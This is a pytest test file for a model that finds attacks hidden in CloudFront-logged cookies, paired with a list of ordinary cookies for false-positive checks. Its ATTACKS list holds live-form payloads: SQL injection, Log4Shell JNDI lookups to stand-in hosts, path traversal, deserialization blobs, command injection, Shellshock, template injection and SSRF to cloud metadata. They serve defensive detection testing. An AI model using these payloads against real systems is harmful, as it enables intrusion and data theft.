"""Attacks in a cookie alone are found from its shape, which holds nothing of an ordinary cookie and no word of the client's."""

from __future__ import annotations

import json
import re
from urllib.parse import quote

import pytest

from spark_jobs.sources.cloudfront.cookie_shapes import WORDS, shape_of
from spark_jobs.sources.cloudfront.log_object import ParseOptions
from spark_jobs.sources.cloudfront.tables import REQUEST_MODEL_INPUTS
from tests.spark_jobs.cloudfront_lines import line, log, parse
from weir_models.request_attack.model import RequestAttack

ATTACKS = (
    "session=' or '1'='1", "id=1' union select 1,2,3--", "user=${jndi:ldap://evil.example/a}", "u=${${lower:j}ndi:${lower:l}dap://x.example/z}",
    "lang=../../../../etc/passwd", "lang=..%252f..%252f..%252fetc%252fpasswd", 'cart=O:4:"Cart":1:{s:4:"file";s:11:"/etc/passwd";}',
    "cart=Tzo0OiJDYXJ0IjoxOntzOjQ6ImZpbGUiO3M6MTE6Ii9ldGMvcGFzc3dkIjt9", "rememberMe=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
    "name=<script>alert(1)</script>", "a=1;cat /etc/passwd", "a=`id`", "t={{config.__class__.__init__.__globals__}}", "x=() { :; }; /bin/bash -c id",
    "TrackingId=x'||pg_sleep(10)--", "theme=dark; TrackingId=x' AND SUBSTRING((SELECT password FROM users),1,1)='a", "f=php://filter/resource=index.php",
    'p={"__proto__":{"admin":true}}', 'j={"password":{"$ne":null}}', "url=http://169.254.169.254/latest/meta-data/", "x=;phpinfo();",
)  # fmt: skip
CONSENT = "CPXxRfAPXxRfAAfKABENB-CgAAAAAAAAAAYgAAAAAAAA.YAAAAAAAAAA"
ORDINARY = (
    "PHPSESSID=u3k9a8d7f6g5h4j3k2l1", "JSESSIONID=0000A1B2C3D4E5F6:1abcd; route=abc", f"euconsent-v2={CONSENT}", "cart=a:2:{i:0;s:3:\"abc\";i:1;s:4:\"abcd\";}",
    "session=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "_ga=GA1.2.1234567890.1600000000; _gid=GA1.2.99.160; _fbp=fb.1.1600.12345; _gcl_au=1.1.123.456",
    "OptanonConsent=isGpcEnabled=0&datestamp=Mon+Nov+30+2026+10%3A00%3A00+GMT%2B0100+(Central+European+Standard+Time)&groups=C0001%3A1%2CC0002%3A1&geolocation=DE%3BBY",
    "cart=" + quote(json.dumps({"items": [{"id": 12, "qty": 1}], "total": 12.5})), 'prefs={"theme":"dark","name":"D\'Arcy","q":"rock & roll"}',
    "laravel_session=eyJpdiI6IlhXXC9hYmM9PSIsInZhbHVlIjoiYWJjZGVmIiwibWFjIjoiMTIzNCJ9", "__utmz=1.160.1.1.utmcsr=google|utmccn=(organic)|utmcmd=organic",
    "CookieConsent={stamp:'abc+def/ghi==',necessary:true,preferences:false,method:'explicit',ver:1,region:'de'}", "user=ana@example.com; city=S%C3%A3o+Paulo",
    "last_search=select%20a%20gift%20from%20the%20list; q=salt+or+pepper", "viewed=12|34|56; recently=cat|dog|more; id=7", "remember_web=eyJpdiI6IkFCQyJ9%3D",
    "AMCV_ABC%40AdobeOrg=-1124106680%7CMCIDTS%7C19000%7CMCMID%7C12345", "mp_abc_mixpanel=%7B%22distinct_id%22%3A%20%2217a%22%2C%22%24device_id%22%3A%20%2217a%22%7D",
    "token=Tzo123abcDEFghijkl", "name=O'Brien; title=Peter's shop and Mary's = fun", "_hjSession=eyJpZCI6ImFiYyIsImNyZWF0ZWQiOjE3MDB9", "aws-waf-token=ab:cd:ef+gh/ij==",
    "flash=Don%27t+forget+and+save+10%25", "returnUrl=https://www.example.com/a?b=c&d=e; path=/home/index.html", "ai_user=abc|2026-11-30T10:00:00.000Z",
)  # fmt: skip


def logged(cookie: str) -> str:
    """As CloudFront writes it: what its log cannot hold is escaped, and so is the client's own percent sign."""
    return line(cs_cookie=quote(cookie, safe="!$&'()*+,-./:;=?@_"))


def found(model: RequestAttack, cookies: tuple[str, ...]) -> list[dict[str, object]]:
    parsed = parse(log(*(logged(cookie) for cookie in cookies)))
    assert not parsed.rejected
    predicted: list[dict[str, object]] = model.predict(
        parsed.requests.select(REQUEST_MODEL_INPUTS).to_pandas()
    ).to_dict("records")
    return predicted


def test_an_attack_in_a_cookie_alone_is_found(request_model: RequestAttack) -> None:
    rows = found(request_model, ATTACKS)
    assert [cookie for cookie, row in zip(ATTACKS, rows, strict=True) if not row["is_attack"]] == []
    assert all(str(row["reason"]).startswith("cookie: ") for row in rows)


def test_ordinary_cookies_are_no_attacks(request_model: RequestAttack) -> None:
    rows = found(request_model, ORDINARY)
    assert [cookie for cookie, row in zip(ORDINARY, rows, strict=True) if row["is_attack"]] == []


def test_most_ordinary_cookies_have_no_shape() -> None:
    assert sum(shape_of(cookie) is None for cookie in ORDINARY) > 0.6 * len(ORDINARY)


@pytest.mark.parametrize("sign", ["' or 1=1--", "../../etc/passwd", "<b>", "${x}", '";O:8:"Customer":1:{'])
def test_a_shape_holds_no_word_of_the_client(sign: str) -> None:
    shape = shape_of(f"theme=dark; session=4f9aQ7zz8812{sign}ana.maria@example.com 4111111111111111; other=8d7f6g")
    assert shape is not None
    assert set(re.findall(r"[a-z_]{2,}", shape)) <= WORDS
    assert set(re.findall(r"\d+", shape)) <= {"0", "1", "2"}, shape


def test_dropped_cookies_leave_no_shape() -> None:
    kept = parse(log(logged(ATTACKS[0]))).requests
    dropped = parse(log(logged(ATTACKS[0])), ParseOptions(cookies="drop")).requests
    assert kept["cookie_shape"].to_pylist() == ["x0=' or '1'='1"]
    assert dropped["cookie_shape"].to_pylist() == [None]
